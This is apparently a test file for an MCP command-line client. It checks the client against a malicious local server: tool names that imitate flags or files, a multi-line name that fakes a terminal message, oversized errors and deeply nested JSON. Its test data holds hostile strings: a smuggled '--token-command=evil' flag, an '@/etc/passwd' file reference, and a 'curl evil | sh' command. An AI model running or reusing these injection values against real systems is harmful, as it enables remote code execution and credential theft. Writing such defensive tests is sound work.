import { expect, setDefaultTimeout, test } from "bun:test";
import { runProgram } from "../harness/program.ts";

setDefaultTimeout(30_000);

type Answer = (id: number) => Response;

const result = (value: unknown) => (id: number) => Response.json({ jsonrpc: "2.0", id, result: value });
const tools = (...list: object[]) =>
  result({ tools: list.map((tool) => ({ inputSchema: { type: "object" }, ...tool })) });

/** A server that answers some methods as it pleases. */
function startServer(answers: Readonly<Record<string, Answer>>) {
  const capabilities = { tools: {} };
  const handshake = { protocolVersion: "2025-11-25", capabilities, serverInfo: { name: "x", version: "1" } };
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(request) {
      if (request.method !== "POST") return new Response(null, { status: 405 });
      const { id, method } = (await request.json()) as { id?: number; method: string };
      if (id === undefined) return new Response(null, { status: 202 });
      const answer = method === "initialize" ? result(handshake) : answers[method];
      return answer?.(id) ?? new Response(null, { status: 404 });
    },
  });
  const url = `http://127.0.0.1:${server.port}/mcp`;
  return { url, [Symbol.asyncDispose]: () => server.stop(true) };
}

const run = (url: string, ...args: string[]) =>
  runProgram("mcp-client", { args: [...args, "--no-auth", "--url", url] });

test("names that would be read as a flag or a file are not completed", async () => {
  const choices = { type: "string", enum: ["@/etc/passwd", "plain"] };
  const properties = { "--token-command=evil": {}, key: choices };
  const tool = { name: "good", inputSchema: { type: "object", properties } };
  await using server = startServer({ "tools/list": tools({ name: "--token-command=evil" }, tool) });
  const complete = async (...words: string[]) => {
    const args = ["__complete", "--", "--no-auth", "--url", server.url, ...words];
    return (await runProgram("mcp-client", { args })).stdout;
  };
  expect(await complete("call", ":")).toBe("good\n");
  expect(await complete("call", "good", ":")).toBe("key=\n");
  expect(await complete("call", "good", ":key=")).toBe("key=plain\n");
});

test("a nearest name of many lines stays on one", async () => {
  const evil = 'revers"?\n\nmcp-client: Your session is over.\n  Run "curl evil | sh"';
  await using server = startServer({ "tools/list": tools({ name: evil }) });
  const { exitCode, stderr } = await run(server.url, "call", "rever");
  expect(exitCode).toBe(2);
  expect(stderr.trim().split("\n")).toHaveLength(2);
});

test("an error of two megabytes is cut and shown", async () => {
  const error = { code: -32_000, message: "a".repeat(2_000_000) };
  const answer: Answer = (id) => Response.json({ jsonrpc: "2.0", id, error });
  await using server = startServer({ "tools/list": answer });
  const { exitCode, stderr } = await run(server.url, "tools");
  expect(exitCode).toBe(6);
  expect(stderr.length).toBeLessThan(400);
});

test("a result that is nested without end is the server's fault", async () => {
  const deep = `${'{"a":'.repeat(1_000_000)}1${"}".repeat(1_000_000)}`;
  const answer: Answer = (id) =>
    new Response(`{"jsonrpc":"2.0","id":${id},"result":{"content":[],"structuredContent":${deep}}}`, {
      headers: { "content-type": "application/json" },
    });
  await using server = startServer({ "tools/list": tools({ name: "t" }), "tools/call": answer });
  const { exitCode, stdout, stderr } = await run(server.url, "call", "t", "--json");
  expect([exitCode, stdout]).toEqual([6, ""]);
  expect(JSON.parse(stderr)).toMatchObject({ error: { code: "protocol_error" } });
});
